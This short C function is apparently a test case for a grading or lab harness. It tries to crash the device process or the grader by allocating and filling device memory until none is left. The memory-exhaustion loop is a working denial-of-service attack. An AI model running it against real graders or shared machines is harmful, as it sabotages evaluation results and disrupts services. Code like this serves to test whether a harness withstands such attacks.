/* Tries to use up the memory of the machine by device memory, which is the device process's, and by filling it.
 * Gains a device process or a grader that is killed. */
static lab_status attack(attack_honest *honest, void *arguments, size_t bytes, float *out, const float *in, int count)
{
    lab_deviceptr memory;
    for (size_t size = (size_t)1 << 36; size >= 4096; size /= 2)
        while (lab_mem_alloc(&memory, size) == LAB_SUCCESS) lab_memset_async(memory, 1, size, NULL);
    return lab_device_synchronize();
}
